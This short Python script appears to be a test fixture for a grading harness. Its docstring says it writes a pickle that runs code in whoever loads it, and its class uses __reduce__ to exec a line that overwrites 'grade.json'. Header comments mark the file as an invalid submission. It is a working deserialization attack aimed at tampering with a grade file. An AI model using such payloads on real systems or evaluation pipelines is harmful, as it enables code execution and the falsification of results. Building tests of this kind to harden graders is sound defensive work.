"""Writes a pickle that runs code in whoever loads it."""
# flaw = 3
# verdicts = ["invalid"]

import pickle


class Evil:
    def __reduce__(self):
        return (exec, ('open("grade.json", "w").write("{}")',))


with open("answers", "wb") as file:
    pickle.dump(Evil(), file)
